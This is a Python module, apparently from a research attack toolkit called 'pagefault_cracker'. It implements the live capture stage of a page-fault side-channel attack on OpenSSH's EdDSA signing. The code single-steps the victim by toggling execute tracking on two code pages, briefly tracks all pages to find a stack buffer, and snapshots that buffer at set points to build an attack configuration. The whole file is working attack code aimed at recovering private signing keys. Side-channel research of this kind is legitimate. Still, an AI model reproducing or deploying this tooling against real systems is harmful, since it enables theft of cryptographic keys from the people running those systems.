"""Live capture automaton for the EdDSA (OpenSSH ge25519 base multiplication) attack.

The automaton follows a cyclic sequence of expected execute faults that
alternate between two pages. After every expected fault it re-arms execute
tracking for the next element only, so the victim makes exactly one step of
progress per fault. A short ignore sequence lets unrelated early accesses
drain, then the attack sequence repeats for the whole main loop.

Early in the attack phase one all-pages access window is opened for a single
step. Its faults are handed to the stack-buffer locator. From then on a page of
memory at the located buffer is read at every save point.
"""

from __future__ import annotations

import logging
import threading
from typing import Sequence

from pagefault_cracker.core.stack_locator import locate_stack_buffer
from pagefault_cracker.core.tracker import CheckedTracker, wait_for_event
from pagefault_cracker.utils.constants import CHOOSE_T_MARKER_RET_INSTR
from pagefault_cracker.utils.errors import (
    CaptureCancelled,
    CaptureError,
    DesyncError,
    TriggerError,
)
from pagefault_cracker.utils.types import (
    CapturePlan,
    CaptureResult,
    EdDSAAttackConfig,
    FaultEvent,
    SignatureTranscript,
    TrackMode,
    describe_error_code,
)


logger = logging.getLogger(__name__)


def locate_target_pages(
    exec_trace: Sequence[FaultEvent],
    marker: int = CHOOSE_T_MARKER_RET_INSTR,
) -> tuple[int, int]:
    """Derive the two toggle pages from a full execute-tracking trace.

    The event whose retired-instruction count equals ``marker`` faults on the
    ``choose_t`` page; the event right after it faults on the field
    arithmetic page. Returns ``(choose_t_gpa, fe64_gpa)``.
    """
    for i, event in enumerate(exec_trace):
        retired = event.require_retired_instructions()
        if retired == marker and 0 < i < len(exec_trace) - 1:
            logger.info("choose_t event: %s", event)
            logger.info("fe64 event: %s", exec_trace[i + 1])
            return event.faulted_gpa, exec_trace[i + 1].faulted_gpa
    raise CaptureError(f"retired instruction marker {marker} not found in trace")


class CaptureSession:
    """Drives a fault handler from the tracker while a trigger runs the victim.

    Subclasses implement ``arm``, ``handle_event`` and ``finish``. The event
    loop runs on the calling thread; the trigger and a progress reporter run
    on worker threads. The trigger's completion sets the cancellation flag,
    which ends the loop cleanly.
    """

    cleanup_mode = TrackMode.EXEC

    def __init__(self, tracker: CheckedTracker, progress_interval: float) -> None:
        self.tracker = tracker
        self.progress_interval = progress_interval
        self.events: list[FaultEvent] = []

    def arm(self) -> None:
        raise NotImplementedError

    def handle_event(self, event: FaultEvent) -> None:
        raise NotImplementedError

    def finish(self, payload: bytes) -> CaptureResult:
        raise NotImplementedError

    def run(self, trigger, cancel: threading.Event | None = None) -> CaptureResult:
        """Arm tracking, fire the trigger and process faults until it returns.

        ``trigger`` is any object with an ``execute() -> bytes`` method. A
        TriggerError is logged and returned on the result together with the
        events captured so far.
        """
        cancel = cancel or threading.Event()
        outcome: dict = {}

        def fire() -> None:
            logger.info("triggering victim")
            try:
                outcome["payload"] = trigger.execute()
            except TriggerError as exc:
                outcome["error"] = exc
            finally:
                logger.info("victim done")
                cancel.set()

        def report_progress() -> None:
            while not cancel.wait(self.progress_interval):
                logger.info("captured %d events so far", len(self.events))
            logger.info("captured %d events", len(self.events))

        self.arm()
        trigger_thread = threading.Thread(target=fire, name="trigger", daemon=True)
        progress_thread = threading.Thread(target=report_progress, name="progress", daemon=True)
        trigger_thread.start()
        progress_thread.start()

        try:
            while True:
                self.handle_event(wait_for_event(self.tracker, cancel))
        except CaptureCancelled:
            logger.debug("capture loop cancelled")
        finally:
            cancel.set()
            self.tracker.untrack_all_pages(self.cleanup_mode)

        trigger_thread.join()
        progress_thread.join()
        error = outcome.get("error")
        if error is not None:
            logger.error("trigger failed: %s", error)
        result = self.finish(outcome.get("payload", b""))
        result.trigger_error = error
        return result


class EdDSACapture(CaptureSession):
    """Fault-sequence automaton for one victim signing operation.

    ``handle_event`` performs exactly one transition and may be driven by
    hand; ``run`` drives it from the tracker until the trigger finishes.
    """

    def __init__(self, tracker: CheckedTracker, plan: CapturePlan) -> None:
        super().__init__(tracker, plan.progress_interval)
        self.plan = plan

        self.sequence: tuple[int, ...] = plan.ignore_sequence
        self.sequence_index = 0
        self.in_attack_phase = False
        self.cycle_count = 0
        self.write_track_in_progress = False
        self.stack_buf_gpa: int | None = None

        self.access_track_events: list[FaultEvent] = []
        self.desync_count = 0
        self._desync_reported = False

    @property
    def expected_gpa(self) -> int:
        return self.sequence[self.sequence_index]

    def arm(self) -> None:
        """Arm execute tracking for the first sequence element."""
        self.tracker.track_page(self.expected_gpa, TrackMode.EXEC)

    # -- Single step --

    def handle_event(self, event: FaultEvent) -> None:
        """Record, re-arm and acknowledge one fault event."""
        if event.faulted_gpa in self.plan.tracked_pages:
            if self._at_save_point(event):
                logger.debug(
                    "reading stack buffer 0x%x at sequence index %d",
                    self.stack_buf_gpa, self.sequence_index,
                )
                event.attach_snapshot(self.stack_buf_gpa, self._read_stack_buffer())
            self.events.append(event)
        elif self.write_track_in_progress:
            self.access_track_events.append(event)

        try:
            self._advance(event)
        except DesyncError as exc:
            self._record_desync(exc)

        self.tracker.ack_event()

    def _at_save_point(self, event: FaultEvent) -> bool:
        if self.stack_buf_gpa is None:
            return False
        idx = self.sequence_index
        attack = self.plan.attack_sequence
        return idx in self.plan.save_points and idx < len(attack) and attack[idx] == event.faulted_gpa

    def _read_stack_buffer(self) -> bytes:
        return self.tracker.read_page(
            self.stack_buf_gpa, flush=self.plan.flush_caches, cpu=self.plan.cpu
        )

    def _advance(self, event: FaultEvent) -> None:
        if event.faulted_gpa != self.expected_gpa:
            raise DesyncError(event.faulted_gpa, self.expected_gpa, self.sequence_index)

        logger.debug(
            "cycle %d, sequence index %d, rip %s",
            self.cycle_count, self.sequence_index,
            hex(event.rip) if event.rip is not None else "n/a",
        )

        if self.in_attack_phase and self.cycle_count == 0:
            start = self.plan.write_track_start_index
            if self.sequence_index == start:
                self._open_access_window()
            elif self.sequence_index == start + 1:
                self._close_access_window()

        self.sequence_index = (self.sequence_index + 1) % len(self.sequence)
        self.tracker.track_page(self.expected_gpa, TrackMode.EXEC)

        if self.sequence_index == 0:
            if not self.in_attack_phase:
                logger.debug("finished ignore sequence")
                self.sequence = self.plan.attack_sequence
                self.in_attack_phase = True
            else:
                logger.debug("cycle %d done", self.cycle_count)
                self.cycle_count += 1

    def _open_access_window(self) -> None:
        logger.info("starting access tracking of all pages")
        self.tracker.track_all_pages(TrackMode.ACCESS)
        self.write_track_in_progress = True

    def _close_access_window(self) -> None:
        self.write_track_in_progress = False
        self.tracker.untrack_all_pages(TrackMode.ACCESS)

        for e in self.access_track_events:
            logger.debug("%s, error code %s", e, describe_error_code(e.error_code))

        found = locate_stack_buffer(self.access_track_events, self.plan.stack_pattern)
        if found is None:
            raise CaptureError(
                f"no stack buffer pattern among {len(self.access_track_events)} access faults"
            )
        self.stack_buf_gpa = found.faulted_gpa
        logger.info(
            "access tracking stopped after %d events, stack buffer at 0x%x",
            len(self.access_track_events), self.stack_buf_gpa,
        )
        if not self.events:
            raise CaptureError("no recorded event to attach the first stack buffer snapshot to")
        self.events[-1].attach_snapshot(self.stack_buf_gpa, self._read_stack_buffer())

    def _record_desync(self, exc: DesyncError) -> None:
        if self.write_track_in_progress:
            return
        self.desync_count += 1
        logger.warning("%s", exc)
        if self.desync_count > self.plan.desync_warn_threshold and not self._desync_reported:
            logger.error(
                "%d unexpected faults so far, the capture is likely out of sync",
                self.desync_count,
            )
            self._desync_reported = True

    def finish(self, payload: bytes) -> CaptureResult:
        return CaptureResult(
            events=self.events,
            stack_buf_gpa=self.stack_buf_gpa,
            payload=payload,
            desync_count=self.desync_count,
        )

    def attack_config(self, transcript: SignatureTranscript) -> EdDSAAttackConfig:
        """Freeze the capture outcome into the persisted attack configuration."""
        if self.stack_buf_gpa is None:
            raise CaptureError("stack buffer was never located")
        return EdDSAAttackConfig(
            choose_t_gpa=self.plan.choose_t_gpa,
            fe64_gpa=self.plan.fe64_gpa,
            stack_buf_gpa=self.stack_buf_gpa,
            transcript=transcript,
        )
